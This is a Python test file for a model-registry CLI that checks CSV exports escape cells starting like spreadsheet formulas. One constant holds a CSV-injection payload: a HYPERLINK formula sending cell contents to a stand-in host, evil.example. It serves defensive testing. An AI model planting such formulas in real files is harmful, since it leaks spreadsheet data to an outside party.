"""CSV the CLI writes is opened in spreadsheets: a cell that starts like a formula (``=``, ``+``,
``-``, ``@``, a tab or a carriage return) would run there (OWASP "CSV injection"). Model ids and
names come from Hub model cards and filings, which anyone writes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from modtrace.cli.main import cli
from modtrace.cli.output import FORMULA_START, rows_csv
from modtrace.registry.register import Edge, Register

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@given(st.lists(st.lists(st.text(max_size=12) | st.integers(), min_size=2, max_size=2), max_size=5))
def test_no_cell_starts_like_a_formula_and_safe_cells_are_unchanged(
    rows: list[list[str | int]],
) -> None:
    back = read(rows_csv(["a", "b"], rows))[1:]
    for written, read_back in zip(rows, back, strict=True):
        for cell, got in zip(written, read_back, strict=True):
            if isinstance(cell, int):
                assert got == str(cell)  # numbers, negative ones too, are no formula
            elif cell.startswith(FORMULA_START):
                assert got == "'" + cell
            else:
                assert got == cell  # plain text untouched
            assert isinstance(cell, int) or not got.startswith(FORMULA_START)


def test_a_hostile_model_id_in_a_recall_list_is_not_a_formula(tmp_path: Path) -> None:
    """A model card may name any string as its base model; the recall CSV carried it as is."""
    url = f"sqlite:///{tmp_path / 'r.sqlite3'}"
    register = Register.open(url)
    register.add_edges([Edge(HOSTILE, "lab/leaf", "finetune"), Edge("lab/leaf", "+cmd", "merge")])
    incident = register.report_incident(title="Harm", model_ids=["lab/leaf"])
    register.engine.dispose()
    result = CliRunner().invoke(
        cli, ["incident", "propagate", str(incident), "--format", "csv", "--database", url]
    )
    assert result.exit_code == 0, result.output
    rows = {r[0]: r for r in read(result.output)[1:]}
    assert rows["original"][1] == "'" + HOSTILE
    assert rows["derived"][1] == "'+cmd"
    assert all(not cell.startswith(FORMULA_START) for row in rows.values() for cell in row)
